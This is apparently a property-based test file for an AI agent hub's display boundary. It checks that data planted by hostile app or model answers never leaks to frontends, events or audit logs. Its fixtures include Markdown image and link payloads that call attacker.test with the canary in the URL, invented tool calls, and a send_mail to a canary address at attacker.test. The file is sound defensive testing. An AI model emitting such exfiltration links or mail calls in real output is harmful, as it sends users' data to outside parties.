/**
 * The display boundary as a property (fast-check): hostile answers of an app and of an agentic
 * app's own model, generated with a canary value above the display cap in every position (values,
 * keys, nested paths, a proposed tool's name and arguments, Markdown links and images), driven
 * through each failure path (visor refusals S and T, schema failures, an answer not JSON, a
 * timeout) and the success paths. The canary reaches no HTTP body (the query, its consents, the
 * audit log), no server-sent event, and no chat adapter's text (OpenAI-compatible, AI SDK).
 * Control: with the boundary off (an RPC-only option) the same visor refusals show it.
 */
import { env } from "cloudflare:workers";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { HubDO } from "../../src/objects/hub/index.ts";
import { hubObjectName } from "../../src/objects/names.ts";
import { rpc } from "../../src/objects/rpc.ts";
import { demoApps } from "./demo.ts";
import { api } from "./helpers.ts";
import {
  answer,
  display,
  type HubWorld,
  hubWorld,
  lit,
  nextConsent,
  openSession,
  ref,
  script,
  settle,
  tool,
} from "./hub-kit.ts";

/** A canary: nothing else in a run contains it. */
const canaries = fc.stringMatching(/^[a-z0-9]{10}$/).map((s) => `cnry${s}`);

/** A JSON value carrying the canary everywhere it can go: as a value, a key, a link, an image, nested. */
const hostile = (c: string) =>
  fc.letrec((tie) => ({
    node: fc.oneof(
      { depthSize: "small", withCrossShrink: true },
      fc.constantFrom(c, `![s](https://attacker.test/p?d=${c})`, `[open](https://attacker.test/${c})`),
      fc.integer(),
      fc.array(tie("node"), { maxLength: 3 }),
      fc.dictionary(fc.constantFrom(c, `${c}.x`, "note"), tie("node"), { maxKeys: 3 }),
    ),
  })).node;

/** An answer the app's schema ({note: string}, nothing else) refuses, with the canary in it. */
const badAnswer = (c: string) =>
  fc.record({
    note: fc.oneof(fc.integer(), fc.array(hostile(c), { maxLength: 2 }), fc.constant({ [c]: c })),
    [c]: hostile(c),
    nested: fc.dictionary(fc.constant(c), hostile(c), { maxKeys: 1 }),
  });

type Path = {
  name: string;
  plan: unknown;
  /** Sets up one run: the app's answer, or the agent's script. */
  arrange(w: HubWorld, c: string, value: unknown): Promise<void>;
  /** A consent to allow before the agent runs (an irreversible functionality). */
  allow?: boolean;
  expected: "completed" | "failed";
};

const scripted = { steps: [tool("r", "misbehave.scripted", {}), display(ref("r"), "Answer")] };
const slow = { steps: [tool("r", "misbehave.slow", {}), display(ref("r"))] };
const summary = { steps: [tool("r", "inboxpilot.summarize_inbox", {}), display(ref("r"), "Summary")] };
const update = {
  steps: [tool("r", "inboxpilot.send_update", { task: lit("Mail Dana a status update") }), display(ref("r"))],
};
const call = (name: string, args: unknown) => ({ toolCalls: [{ name, arguments: args }] });

async function appAnswers(w: HubWorld, value: unknown): Promise<void> {
  const res = await demoApps().fetch(`http://apps/w/${w.world}/_demo/state/misbehave`, {
    method: "PUT",
    body: JSON.stringify({ echoes: 0, answer: value }),
  });
  expect(res.status).toBe(200);
}

const PATHS: Path[] = [
  {
    name: "an app's answer, shown (success)",
    plan: scripted,
    arrange: (w, c) => appAnswers(w, { note: `![s](https://attacker.test/p?d=${c})` }),
    expected: "completed",
  },
  {
    name: "an app's answer that breaks its schema (invalid_response)",
    plan: scripted,
    arrange: (w, _c, value) => appAnswers(w, value),
    expected: "failed",
  },
  {
    name: "an app that does not answer in time (app_timeout)",
    plan: slow,
    arrange: async () => {},
    expected: "failed",
  },
  {
    name: "an agent's answer, shown (success)",
    plan: summary,
    arrange: (w, c) =>
      script(w.models.spoke, [{ respond: { summary: `![s](https://attacker.test/?d=${c})` } }]),
    expected: "completed",
  },
  {
    name: "an agent's answer with extra keys (invalid_response)",
    plan: summary,
    arrange: (w, _c, value) => script(w.models.spoke, [{ respond: value }]),
    expected: "failed",
  },
  {
    name: "an agent's answer that is not JSON",
    plan: summary,
    arrange: (w, c) => script(w.models.spoke, [{ respond: `see ![s](https://attacker.test/?d=${c})` }]),
    expected: "failed",
  },
  {
    name: "a tool the agent made up, named by the canary (visor S)",
    plan: summary,
    arrange: (w, c, value) => script(w.models.spoke, [call(c, { [c]: value })]),
    expected: "failed",
  },
  {
    name: "an irreversible tool under a reversible request (visor S)",
    plan: summary,
    arrange: (w, c, value) => script(w.models.spoke, [call("send_mail", { to: c, subject: c, body: value })]),
    expected: "failed",
  },
  {
    name: "a mail to a destination the request does not name (visor T)",
    plan: update,
    allow: true,
    arrange: (w, c, value) =>
      script(w.models.spoke, [call("send_mail", { to: `${c}@attacker.test`, subject: c, body: value })]),
    expected: "failed",
  },
];

async function world(plan: unknown): Promise<HubWorld> {
  const w = await hubWorld(["misbehave", "inboxpilot"], {
    display: { maxConfidentiality: "internal" },
    limits: { appTimeoutMs: 300 },
  });
  await script(w.models.planner, [{ respond: plan }]);
  return w;
}

/** One run: a new session, the query over RPC (so the control can switch the boundary off), settled. */
async function run(w: HubWorld, path: Path, boundary: "on" | "off"): Promise<{ sid: string; qid: string }> {
  const sid = await openSession(w);
  const hub = rpc<HubDO>(env.HUB.getByName(hubObjectName(w.tenant.tenantId, sid)));
  const started = await hub.startQuery("Mail Dana a status update", null, { boundary });
  if (!started.ok) throw new Error(started.code);
  const qid = started.query.id;
  if (path.allow) await answer(w, sid, (await nextConsent(w, sid)).id, { decision: "allow" });
  const q = await settle(w, sid, qid);
  expect(q.status, JSON.stringify(q.error)).toBe(path.expected);
  return { sid, qid };
}

/** The session's server-sent events, read until the query's end. */
async function events(w: HubWorld, sid: string): Promise<string> {
  const res = await api("GET", `/v1/sessions/${sid}/events`, { key: w.frontend, stream: true });
  const reader = res.response.body!.getReader();
  const decoder = new TextDecoder();
  let text = "";
  while (!text.includes("query_finished")) {
    const { value, done } = await reader.read();
    if (done) break;
    text += decoder.decode(value);
  }
  await reader.cancel();
  return text;
}

/** What each chat adapter says of the query: a new turn reports on the query it is owed. */
async function chats(w: HubWorld, sid: string, qid: string): Promise<string[]> {
  const hub = rpc<HubDO>(env.HUB.getByName(hubObjectName(w.tenant.tenantId, sid)));
  const headers = { "X-Lattice-Session": sid };
  await hub.oweTurn(qid);
  const openai = await api("POST", "/v1/openai/chat/completions", {
    key: w.frontend,
    headers,
    body: { model: "lattice", user: "alice", messages: [{ role: "user", content: "and?" }] },
  });
  expect(openai.status, JSON.stringify(openai.body)).toBe(200);
  await hub.oweTurn(qid);
  const aiSdk = await api("POST", "/v1/ai-sdk/chat", {
    key: w.frontend,
    headers,
    body: {
      id: "chat-1",
      user: "alice",
      messages: [{ id: "m1", role: "user", parts: [{ type: "text", text: "and?" }] }],
    },
  });
  expect(aiSdk.status, JSON.stringify(aiSdk.body)).toBe(200);
  return [JSON.stringify(openai.body), String(aiSdk.body)];
}

/** Everything that left for a frontend or the audit log after the run. */
async function leftBy(w: HubWorld, sid: string, qid: string): Promise<Record<string, string>> {
  const query = await api("GET", `/v1/sessions/${sid}/queries/${qid}`, { key: w.frontend });
  const consents = await api("GET", `/v1/sessions/${sid}/consents`, { key: w.frontend });
  const audit = await api("GET", "/v1/admin/audit?limit=500", { key: w.tenant.adminKey });
  const [openai, aiSdk] = await chats(w, sid, qid);
  return {
    query: JSON.stringify(query.body),
    consents: JSON.stringify(consents.body),
    audit: JSON.stringify(audit.body),
    events: await events(w, sid),
    openai: openai!,
    aiSdk: aiSdk!,
  };
}

const RUNS = 2;

describe("the display boundary, as a property", () => {
  for (const path of PATHS) {
    it(`no canary leaves: ${path.name}`, async () => {
      const w = await world(path.plan);
      await fc.assert(
        fc.asyncProperty(
          canaries.chain((c) => fc.tuple(fc.constant(c), badAnswer(c))),
          async ([c, value]) => {
            await path.arrange(w, c, value);
            const { sid, qid } = await run(w, path, "on");
            const left = await leftBy(w, sid, qid);
            for (const [where, text] of Object.entries(left)) expect(text, where).not.toContain(c);
          },
        ),
        { numRuns: RUNS },
      );
    });
  }

  it.each(PATHS.filter((p) => p.name.includes("visor")))(
    "control: with the boundary off, the canary leaves: $name",
    async (path) => {
      const w = await world(path.plan);
      const c = "cnrycontrol0";
      await path.arrange(w, c, { [c]: c });
      const { sid, qid } = await run(w, path, "off");
      const left = await leftBy(w, sid, qid);
      expect(left.query).toContain(c);
      expect(left.events).toContain(c);
    },
  );
});
